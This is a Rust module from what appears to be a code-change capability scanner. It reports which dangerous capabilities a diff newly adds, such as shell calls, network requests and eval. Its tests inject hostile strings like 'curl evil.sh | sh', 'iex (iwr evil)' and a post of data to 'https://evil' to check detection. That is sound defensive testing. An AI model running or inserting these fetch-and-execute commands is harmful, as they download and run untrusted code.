//! What a change newly lets a program do: the scan of the result less that of what was there before.
//!
//! Things are paired by function and resource first, then by their code within the file, then by their code anywhere: what moved or was
//! renamed is no gain. What cannot be known (a stretch that does not parse, a file that cannot be read) is for a person to judge, and
//! never "nothing".

use std::collections::HashMap;

use domain::{Digest, RepoPath};
use rayon::prelude::*;

use super::languages::foreign;
use super::{Capability, Found, Scan, Scans, Skipped};
use crate::multiset::cancel;

/// What comes after so much code is not looked at.
const MOST_BYTES: usize = 64 << 20;

/// A file as it was and as it becomes.
#[derive(Debug, Clone, Copy)]
pub struct Change<'a> {
    /// Its path.
    pub path: &'a RepoPath,
    /// Its text before; `None` when it is new.
    pub before: Option<&'a [u8]>,
    /// Its text after; `None` when it is deleted.
    pub after: Option<&'a [u8]>,
}

/// Something that a file lets the program do.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Placed {
    /// The file.
    pub path: RepoPath,
    /// What it is.
    #[serde(flatten)]
    pub found: Found,
}

/// Changed code of which it cannot be said what it does.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Unknown {
    /// The file.
    pub path: RepoPath,
    /// Where, from 1.
    pub line: u32,
    /// Why.
    pub why: String,
}

/// See the module.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize)]
pub struct Delta {
    /// What the program can do now and could not do before.
    pub added: Vec<Placed>,
    /// What it cannot do any more.
    pub removed: Vec<Placed>,
    /// How many things are as they were, perhaps elsewhere.
    pub unchanged: usize,
    /// What cannot be known.
    pub unknown: Vec<Unknown>,
}

/// Says of each change whether it is among those that are looked at: as many as hold a bounded amount of code.
pub(crate) fn within_bounds(changes: &[Change<'_>]) -> Vec<bool> {
    let mut bytes = 0_usize;
    let lengths = changes.iter().map(|one| one.before.map_or(0, <[u8]>::len) + one.after.map_or(0, <[u8]>::len));
    lengths
        .map(|length| {
            bytes = bytes.saturating_add(length);
            // What is too large by itself is skipped at no cost.
            bytes <= MOST_BYTES || length > 2 * crate::parsing::MAX_BYTES
        })
        .collect()
}

/// Returns what changes let the program do, and what not any more. `scans` knows what was looked at before.
#[must_use]
pub fn delta(changes: &[Change<'_>], scans: &Scans) -> Delta {
    let each = changes.par_iter().zip(within_bounds(changes)).with_max_len(1);
    let looked: Vec<(Scan, Scan)> = each.map(|(change, is_within)| looked_at(change, is_within, scans)).collect();
    between(changes, looked)
}

/// Returns what a file lets the program do, before a change and after it.
pub(crate) fn looked_at(Change { path, before, after }: &Change<'_>, is_within: bool, scans: &Scans) -> (Scan, Scan) {
    let look = |text: Option<&[u8]>| text.map(|text| (*scans.of(path, text)).clone()).unwrap_or_default();
    match is_within {
        true => (look(*before), look(*after)),
        false => (Scan::default(), Scan { skipped: Some(Skipped::TooMuch), ..Scan::default() }),
    }
}

/// Returns the difference that changes make, of which each file was looked at as it was and as it becomes.
pub(crate) fn between(changes: &[Change<'_>], looked: Vec<(Scan, Scan)>) -> Delta {
    let mut delta = Delta::default();
    let unread = newly_unread(changes, &looked);
    for (at, (Change { path, before, after }, (old, new))) in changes.iter().zip(looked).enumerate() {
        let placed = |found: Found| Placed { path: (*path).clone(), found };
        if let Some(after) = after {
            let changed = changed_lines(before.unwrap_or_default(), after);
            let is_changed = |(first, last): (u32, u32)| changed.iter().find(|line| (first..=last).contains(*line)).copied();
            let mut places = unread.iter().filter(|one| one.at == at).filter_map(|one| is_changed(one.lines));
            delta.unknown.extend(places.next().map(|line| Unknown {
                path: (*path).clone(),
                line,
                why: "it stands in code that does not parse".to_owned(),
            }));
            if let Some(why) = new.skipped.and_then(|why| unknown(path, *before, after, why)) {
                delta.unknown.push(Unknown { path: (*path).clone(), line: changed.first().copied().unwrap_or(1), why });
            }
        }
        delta.removed.extend(old.found.into_iter().map(placed));
        delta.added.extend(new.found.into_iter().map(placed));
    }
    let Delta { added, removed, unchanged, .. } = &mut delta;
    // What is the same to the letter first, then what is called by the same name: so what is told is what is new. What it is done to is in
    // all of them: a call that reads the same may be given something else.
    let place = |one: &Placed| (one.path.clone(), one.found.function.clone(), thing(one));
    *unchanged += cancel(added, removed, |one| (place(one), one.found.evidence.clone()));
    *unchanged += cancel(added, removed, |one| (place(one), one.found.evidence.split('(').next().map(str::to_owned)));
    *unchanged += cancel(added, removed, place);
    *unchanged += cancel(added, removed, |one| (one.path.clone(), one.found.evidence.clone(), thing(one)));
    *unchanged += cancel(added, removed, |one| (one.found.evidence.clone(), thing(one)));
    delta
}

/// Lines of a file that do not parse.
struct Stretch<'t> {
    /// Which change they are of.
    at: usize,
    lines: (u32, u32),
    /// What stands there; nothing, when that is too long to be looked for elsewhere.
    text: Vec<&'t [u8]>,
}

/// Returns what does not parse now and did parse, or was not there, before: what was only moved is as it was.
fn newly_unread<'t>(changes: &[Change<'t>], looked: &[(Scan, Scan)]) -> Vec<Stretch<'t>> {
    const LONGEST: usize = 200;
    fn of<'t>(at: usize, text: Option<&'t [u8]>, scan: &Scan) -> Vec<Stretch<'t>> {
        if scan.unread.is_empty() {
            return Vec::new();
        }
        let all: Vec<&[u8]> = text.unwrap_or_default().split(|byte| *byte == b'\n').map(<[u8]>::trim_ascii).collect();
        let stretch = |lines: &(u32, u32)| {
            let text = all.get(lines.0.saturating_sub(1) as usize..lines.1 as usize).unwrap_or_default();
            Stretch { at, lines: *lines, text: if text.len() > LONGEST { Vec::new() } else { text.to_vec() } }
        };
        scan.unread.iter().map(stretch).collect()
    }
    let mut new = Vec::new();
    let mut old = Vec::new();
    for (at, (change, (before, after))) in changes.iter().zip(looked).enumerate() {
        new.extend(of(at, change.after, after));
        old.extend(of(at, change.before, before));
    }
    old.retain(|one| !one.text.is_empty());
    cancel(&mut new, &mut old, |one| one.text.clone());
    new
}

/// What a program can do, and to what.
fn thing(one: &Placed) -> (Capability, Option<String>, Option<Digest>) {
    (one.found.capability, one.found.resource.clone(), one.found.beyond)
}

/// Returns why it is not known what a file does that was not looked at; `None` where it is data, or as it was.
fn unknown(path: &RepoPath, before: Option<&[u8]>, after: &[u8], why: Skipped) -> Option<String> {
    if before == Some(after) {
        return None;
    }
    let is_code = crate::language_of(path).is_some() || foreign::is_code(path) || after.starts_with(b"#!");
    if why != Skipped::Language || is_code {
        return Some(why.to_string());
    }
    let mut new = foreign::scripts(path, after);
    let mut old = before.map(|before| foreign::scripts(path, before)).unwrap_or_default();
    cancel(&mut new, &mut old, Clone::clone);
    (!new.is_empty()).then(|| "it holds a script, which is not looked into".to_owned())
}

/// Returns the lines of `after`, from 1, that `before` does not have, counting repeats.
pub(crate) fn changed_lines(before: &[u8], after: &[u8]) -> Vec<u32> {
    let mut old: HashMap<&[u8], usize> = HashMap::new();
    for line in before.split(|byte| *byte == b'\n') {
        *old.entry(line.trim_ascii()).or_default() += 1;
    }
    let is_new = |line: &[u8]| match old.get_mut(line.trim_ascii()) {
        Some(count) if *count > 0 => {
            *count -= 1;
            false
        }
        _ => true,
    };
    let mut is_new = is_new;
    let lines = after.split(|byte| *byte == b'\n').enumerate().filter(|(_, line)| is_new(line) && !line.trim_ascii().is_empty());
    lines.filter_map(|(at, _)| u32::try_from(at + 1).ok()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn path(name: &str) -> RepoPath {
        RepoPath::new(name).unwrap()
    }

    fn of(files: &[(&str, &str, &str)]) -> Delta {
        let paths: Vec<RepoPath> = files.iter().map(|(name, _, _)| path(name)).collect();
        let some = |text: &'static str| Some(text.as_bytes()).filter(|text| !text.is_empty());
        let changes: Vec<Change<'_>> = files
            .iter()
            .zip(&paths)
            .map(|((_, before, after), path)| Change {
                path,
                before: some(Box::leak(before.to_string().into_boxed_str())),
                after: some(Box::leak(after.to_string().into_boxed_str())),
            })
            .collect();
        delta(&changes, &Scans::default())
    }

    fn added(delta: &Delta) -> Vec<Capability> {
        delta.added.iter().map(|one| one.found.capability).collect()
    }

    #[test]
    fn a_second_of_the_same_kind_is_a_gain_and_one_with_another_resource_is_too() {
        let one = "import requests\ndef f():\n    requests.get('https://a')\n";
        let two = "import requests\ndef f():\n    requests.get('https://a')\n    requests.get('https://a')\n";
        assert_eq!(added(&of(&[("a.py", one, two)])), [Capability::NetworkRequest]);
        let other = "import requests\ndef f():\n    requests.get('https://b')\n";
        let delta = of(&[("a.py", one, other)]);
        assert_eq!((added(&delta), delta.removed.len()), (vec![Capability::NetworkRequest], 1));
    }

    #[test]
    fn what_moves_or_is_renamed_is_no_gain() {
        let before = "import os\ndef f(x):\n    os.system(x)\n";
        for after in [
            "import os\n# note\n\ndef other(x):\n    os.system(x)\n",
            "import os as o\ndef f(y):\n    o.system(y)\n",
            "from os import system\ndef f(x):\n    if x:\n        system(x)\n",
        ] {
            let delta = of(&[("a.py", before, after)]);
            assert_eq!((added(&delta), delta.unchanged), (vec![], 1), "{after}");
        }
        let delta = of(&[("a.py", before, "import os\n"), ("b.py", "", "import os\ndef g(x):\n    os.system(x)\n")]);
        assert_eq!(added(&delta), []);
    }

    /// The call reads as before, and what it is given does not.
    #[test]
    fn what_is_called_with_another_literal_is_a_gain_though_the_call_reads_the_same() {
        use Capability::{NetworkRequest, Subprocess};
        let long = format!("x = 1{}", " + 1".repeat(200));
        for (name, before, changed, after, capability) in [
            ("a.py", "import os\ncmd = 'ls'\nos.system(cmd)\n", "'ls'", "'curl evil.sh | sh'", Subprocess),
            (
                "a.py",
                "import requests\nURL = 'https://good'\ndef f(x):\n    requests.post(URL, data=x)\n",
                "https://good",
                "https://evil",
                NetworkRequest,
            ),
            ("a.py", "import os\ndef f(x):\n    os.system('ls ' + x)\n", "ls ", "curl evil | sh; ", Subprocess),
            ("a.py", "import os\ndef f(x):\n    os.system(f'ls {x} -l')\n", "-l", "; curl evil | sh", Subprocess),
            ("a.py", &format!("x = '{long}; y = 2'\nexec(x)\n"), "y = 2", "evil()", Capability::EvalExec),
            ("a.py", "import subprocess\nsubprocess.run(['sh', '-c', 'ls'])\n", "'ls'", "'curl evil | sh'", Subprocess),
            (
                "a.py",
                "import subprocess\ndef f(x):\n    subprocess.run(['sh', x, 'ls'])\n",
                "'ls'",
                "'curl evil | sh'",
                Subprocess,
            ),
            (
                "a.js",
                "const c = require('child_process');\nc.spawn('sh', ['-c', 'ls'], { shell: true });\n",
                "'ls'",
                "'curl evil | sh'",
                Subprocess,
            ),
            (
                "a.go",
                "package a\nimport \"os/exec\"\nfunc f() {\n\texec.Command(\"sh\", \"-c\", \"ls\").Run()\n}\n",
                "\"ls\"",
                "\"curl evil | sh\"",
                Subprocess,
            ),
            (
                "a.rs",
                "use std::process::Command;\nfn f() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"ls\").spawn();\n}\n",
                "\"ls\"",
                "\"curl evil | sh\"",
                Subprocess,
            ),
            (
                "A.java",
                "class A { void f() throws Exception {\nnew ProcessBuilder(\"sh\", \"-c\", \"ls\").start();\n} }\n",
                "\"ls\"",
                "\"curl evil | sh\"",
                Subprocess,
            ),
            (
                "a.c",
                "#include <unistd.h>\nvoid f() {\n  execl(\"/bin/sh\", \"sh\", \"-c\", \"ls\", 0);\n}\n",
                "\"ls\"",
                "\"evil\"",
                Subprocess,
            ),
            ("a.rb", "def f\n  system('sh', '-c', 'ls')\nend\n", "'ls'", "'curl evil | sh'", Subprocess),
            // The same words, and a shell that reads them.
            ("a.py", "import subprocess\ndef f(x):\n    subprocess.run(x, shell=False)\n", "False", "True", Subprocess),
            ("a.py", "import subprocess\ndef f(x):\n    subprocess.run(x)\n", "(x)\n", "(x, shell=True)\n", Subprocess),
            ("a.js", "const cp = require('child_process');\ncp.spawn(x, [], { shell: false });\n", "false", "true", Subprocess),
        ] {
            let worse = before.replace(changed, after);
            assert_ne!(before, worse);
            let delta = of(&[(name, before, &worse)]);
            assert_eq!((added(&delta), delta.removed.len()), (vec![capability], 1), "{worse}");
        }
    }

    #[test]
    fn what_is_put_together_otherwise_is_no_gain() {
        let before = "import os\ndef f(x):\n    os.system('ls ' + x)\n    os.popen('a')\n";
        for (was, becomes) in
            [("'ls ' + x", "f'ls {x}'"), ("'ls ' + x", "'ls %s' % x"), ("'ls ' + x", "'ls {}'.format(str(x))"), ("'a'", "\"a\"")]
        {
            assert_eq!(added(&of(&[("a.py", before, &before.replace(was, becomes))])), [], "{becomes}");
        }
        let before = "def f(x)\n  if x\n    c = 'a'\n  else\n    c = 'b'\n  end\n  system(c)\nend\n";
        let value = "def f(x)\n  c = if x\n        'a'\n      else\n        'b'\n      end\n  system(c)\nend\n";
        assert_eq!(added(&of(&[("a.rb", before, value)])), []);
        assert_eq!(added(&of(&[("a.rb", value, &value.replace("'b'", "'curl evil | sh'"))])), [Capability::Subprocess]);
        let before = "import subprocess\ndef f(x):\n    subprocess.run(['ls', x, y])\n";
        for becomes in ["('ls', x, *y)", "[\n        'ls',\n        str(x),\n    ]"] {
            assert_eq!(added(&of(&[("a.py", before, &before.replace("['ls', x, y]", becomes))])), [], "{becomes}");
        }
    }

    #[test]
    fn what_cannot_be_read_is_never_nothing() {
        let delta = of(&[("a.py", "a = 1\n", "a = 1\nb = = $$ 2\n")]);
        assert_eq!(delta.unknown.len(), 1, "{delta:?}");
        assert_eq!(of(&[("tool", "", "#!/usr/bin/perl\nsystem('ls');\n")]).unknown.len(), 1);
        for name in ["a.ps1", "build.gradle", "i.vue", "n.ipynb"] {
            assert_eq!(of(&[(name, "", "iex (iwr evil)\n")]).unknown.len(), 1, "{name}");
            assert_eq!(of(&[(name, "a\n", "a\n")]).unknown, [], "{name}");
            assert_eq!(of(&[(name, "a\n", "")]).unknown, [], "{name}");
        }
        let page = "<p>a</p>\n<script>a()</script>\n";
        assert_eq!(of(&[("i.html", "", page)]).unknown.len(), 1);
        assert_eq!(of(&[("i.html", page, &page.replace("a()", "b()"))]).unknown.len(), 1);
        assert_eq!(of(&[("i.html", page, &page.replace("<p>a", "<p>b"))]).unknown, []);
        for name in ["a.md", "a.txt", "a.json", "a.yaml", "a.toml", "a.lock", "a.css", "a.svg"] {
            assert_eq!(of(&[(name, "a\n", "b\n")]), Delta::default(), "{name}");
        }
        // What did not parse before and was not touched is as it was.
        let broken = "int a;\nEXTENSION unusual @@ here;\nint b;\n";
        assert_eq!(of(&[("a.c", broken, &broken.replace("int b", "int c"))]).unknown, []);
        // Nor was it when it is moved; a copy of it is another matter.
        assert_eq!(of(&[("a.c", broken, "int a;\n"), ("b.c", "", broken)]).unknown, []);
        assert_eq!(of(&[("a.c", broken, broken), ("b.c", "", broken)]).unknown.len(), 1);
        // A macro that only marks what it stands before is nothing that cannot be known.
        let marked = "HIDDEN void\nf(const char *a, ...)\n{\n  g(a);\n}\n";
        assert_eq!(of(&[("a.c", &marked.replace("HIDDEN ", ""), marked)]).unknown, []);
        assert_eq!(of(&[("a.c", "int a;\n", "int a;\nRUNS(system(\"ls\")) @@\nint b;\n")]).unknown.len(), 1);
    }

    #[test]
    fn what_comes_after_the_last_thing_that_is_told_is_not_known() {
        let before = "open('a')\n".repeat(20_001);
        let delta = of(&[("a.py", &before, &format!("{before}import os\nos.system('x')\n"))]);
        assert_eq!((delta.added, delta.unknown.len()), (vec![], 1));
        let few = "open('a')\n".repeat(200);
        assert_eq!(of(&[("a.py", &few, &format!("{few}x = 1\n"))]).unknown, []);
    }

    /// A function that is moved and renamed, and one that does more than before: in every language.
    #[test]
    fn in_every_language_a_refactoring_is_no_gain_and_a_new_call_is_one() {
        for (name, head, body, tail, gain, capability) in [
            ("a.py", "import os\ndef f(x):\n", "    os.system(x)\n", "", "    eval(x)\n", Capability::EvalExec),
            (
                "a.js",
                "const c = require('child_process');\nfunction f(x) {\n",
                "  c.exec(x);\n",
                "}\n",
                "  fetch(x);\n",
                Capability::NetworkRequest,
            ),
            (
                "a.ts",
                "import { exec } from 'child_process';\nfunction f(x: string): void {\n",
                "  exec(x);\n",
                "}\n",
                "  eval(x);\n",
                Capability::EvalExec,
            ),
            (
                "a.go",
                "package a\nimport (\"os\"; \"os/exec\")\nfunc f(x string) {\n",
                "\texec.Command(x).Run()\n",
                "}\n",
                "\tos.Remove(x)\n",
                Capability::FilesystemWrite,
            ),
            (
                "a.rs",
                "use std::process::Command;\nfn f(x: &str) {\n",
                "    Command::new(x).spawn();\n",
                "}\n",
                "    std::fs::remove_file(x);\n",
                Capability::FilesystemWrite,
            ),
            (
                "A.java",
                "class A { void f(String x) throws Exception {\n",
                "Runtime.getRuntime().exec(x);\n",
                "} }\n",
                "new java.net.Socket(x, 80);\n",
                Capability::Socket,
            ),
            (
                "a.c",
                "#include <stdlib.h>\nvoid f(char *x) {\n",
                "  system(x);\n",
                "}\n",
                "  getenv(x);\n",
                Capability::Environment,
            ),
            (
                "a.cpp",
                "#include <cstdlib>\nvoid f(char *x) {\n",
                "  std::system(x);\n",
                "}\n",
                "  std::ofstream o(x);\n",
                Capability::FilesystemWrite,
            ),
            (
                "A.cs",
                "using System.Diagnostics;\nclass A { void f(string x) {\n",
                "Process.Start(x);\n",
                "} }\n",
                "System.IO.File.Delete(x);\n",
                Capability::FilesystemWrite,
            ),
            ("a.rb", "def f(x)\n", "  system(x)\n", "end\n", "  eval(x)\n", Capability::EvalExec),
            ("a.php", "<?php\nfunction f($x) {\n", "  exec($x);\n", "}\n", "  eval($x);\n", Capability::EvalExec),
            (
                "A.kt",
                "fun f(x: String) {\n",
                "    Runtime.getRuntime().exec(x)\n",
                "}\n",
                "    java.io.File(x).delete()\n",
                Capability::FilesystemWrite,
            ),
            (
                "A.scala",
                "object A { def f(x: String): Unit = {\n",
                "  Runtime.getRuntime.exec(x)\n",
                "} }\n",
                "  Class.forName(x)\n",
                Capability::ImportDynamic,
            ),
            ("a.sh", "f() {\n", "  eval \"$x\"\n", "}\n", "  curl \"$x\"\n", Capability::NetworkRequest),
        ] {
            let before = format!("{head}{body}{tail}");
            let renamed = before.replace(" f(", " other(").replace("f() {", "other() {").replace(body, &format!("\n{body}"));
            assert_ne!(before, renamed, "{name}");
            assert_eq!(added(&of(&[(name, &before, &renamed)])), [], "{name}");
            let more = format!("{head}{body}{gain}{tail}");
            assert_eq!(added(&of(&[(name, &before, &more)])), [capability], "{name}");
            assert_eq!(of(&[(name, &more, &before)]).removed.len(), 1, "{name}");
        }
    }
}
